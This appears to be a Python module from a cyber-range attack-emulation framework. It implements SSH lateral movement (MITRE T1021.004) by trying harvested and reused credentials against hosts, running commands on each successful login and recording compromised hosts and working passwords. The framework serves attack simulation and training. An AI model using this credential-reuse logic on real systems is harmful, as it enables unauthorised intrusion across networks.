"""Lateral movement: T1021.004 Remote Services: SSH, from whatever node the step runs in.

The step's actor is usually a host an earlier step compromised (the playbook engine resolves
``actor: "#{brute.compromised}"`` to that node); this module only runs inside the actor's
namespace. Credentials come from an earlier step's facts (``credentials: "#{brute.credentials}"``,
substituted by the engine) and/or ``user``/``password``. Each login is one real SSH connection
(paramiko over a kernel socket we own, counted with TCP_INFO: see ``tcp.ssh_session``).
"""
from __future__ import annotations

import time

from cyberrange.attack.spec import Param, technique
from cyberrange.attack.techniques.common import Blocked, Result, conclude, parse_services
from cyberrange.attack.techniques.credential import CutGuard
from cyberrange.attack.techniques.tcp import ssh_session

DEAD = ("refused", "timeout", "unreachable")


def _credentials(params: dict, log: list[str]) -> list[dict]:
    """Every credential the step may use, as {"user", "password", "target" or None}.

    Accepts a list (or one) of {"user", "password"[, "target"]} dicts (the facts of T1110.*),
    "user:password" strings, and the ``user``/``password`` params."""
    raw = params["credentials"] or []
    if isinstance(raw, (dict, str)):
        raw = [raw]
    out = []
    for c in raw:
        if isinstance(c, dict) and "user" in c and "password" in c:
            out.append({"user": str(c["user"]), "password": str(c["password"]),
                        "target": c.get("target")})
        elif isinstance(c, str) and ":" in c:
            u, p = c.split(":", 1)
            out.append({"user": u, "password": p, "target": None})
        else:
            log.append(f"ignored a credential that is not {{user, password}} or 'user:password': "
                       f"{c!r}")
    if params["user"] and params["password"] is not None:
        out.append({"user": str(params["user"]), "password": str(params["password"]),
                    "target": None})
    uniq = {}
    for c in out:
        uniq.setdefault((c["user"], c["password"], c["target"]), c)
    return list(uniq.values())


def _order_for(ip: str, port: int, creds: list[dict], reuse: bool) -> list[dict]:
    """Credentials to try on ip:port: the ones found for this host first, then (``reuse``) the
    others, once per (user, password)."""
    mine = [c for c in creds if c["target"] and str(c["target"]).rsplit(":", 1)[0] == ip]
    general = [c for c in creds if not c["target"]]
    others = [c for c in creds if c["target"] and c not in mine] if reuse else []
    seen, out = set(), []
    for c in mine + general + others:
        if (c["user"], c["password"]) not in seen:
            seen.add((c["user"], c["password"]))
            out.append(c)
    return out


@technique(
    "T1021.004", "Remote Services: SSH (lateral movement)", "lateral-movement",
    {
        "credentials": Param(list, [], 'credentials to use, usually "#{<step>.credentials}" '
                                       "of a T1110 step; also \"user:password\" strings"),
        "user": Param(str, "", "a user name to try (with password), besides credentials"),
        "password": Param(str, "", "the password for user"),
        "port": Param(int, 22, "SSH port on bare-IP targets"),
        "commands": Param(list, ["id", "hostname"], "commands run after login (one exec "
                                                    "channel each)"),
        "reuse": Param(bool, True, "also try credentials found on other hosts"),
        "pause": Param((int, float), 0.1, "seconds between logins"),
        "connect_timeout": Param((int, float), 2.5, "seconds to wait for a connection"),
        "io_timeout": Param((int, float), 5.0, "seconds to wait for each SSH answer"),
    },
    produces=("compromised", "sessions", "credentials"),
)
def ssh_lateral(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    port = int(params["port"])
    commands = [str(c) for c in params["commands"]]
    reuse = bool(params["reuse"])
    pause = float(params["pause"])
    connect_timeout = float(params["connect_timeout"])
    io_timeout = float(params["io_timeout"])
    creds = _credentials(params, res.log)
    if not creds:
        res.outcome, res.error = "failed", "no credentials: give 'credentials' or 'user'/'password'"
        res.end = time.time()
        return res
    services = parse_services(targets, [port], res.log, only_listed_ports=False)
    sessions, found, compromised, dead, attempts = [], [], [], set(), 0
    guard = CutGuard(res)
    try:
        for ip, p in services:
            for c in _order_for(ip, p, creds, reuse):
                if attempts and pause > 0:
                    time.sleep(pause)
                attempts += 1
                status, fl, info = ssh_session(ip, p, c["user"], c["password"], commands,
                                               connect_timeout, io_timeout)
                res.flows.append(fl)
                if guard.saw(ip, p, status):
                    dead.add((ip, p))
                    break
                if status == "ok":
                    sessions.append({"target": f"{ip}:{p}", "user": c["user"],
                                     "banner": info["banner"], "outputs": info["outputs"]})
                    found.append({"target": f"{ip}:{p}", "user": c["user"],
                                  "password": c["password"]})
                    compromised.append(ip)
                    break
                if status in DEAD:
                    dead.add((ip, p))
                if status != "bad":
                    res.log.append(f"{ip}:{p}: {status}; no further logins tried there")
                    break
    except Blocked as exc:          # the actor's own node stopped sending: nothing more to try
        res.cut(exc.reason)
    res.log.append(f"{attempts} SSH logins at {len(services)} services, {len(sessions)} sessions")
    res.facts = {"compromised": list(dict.fromkeys(compromised)), "sessions": sessions,
                 "credentials": found}
    return conclude(res, sessions, services and len(dead) == len(services)
                    and "every SSH service refused or dropped the connections")
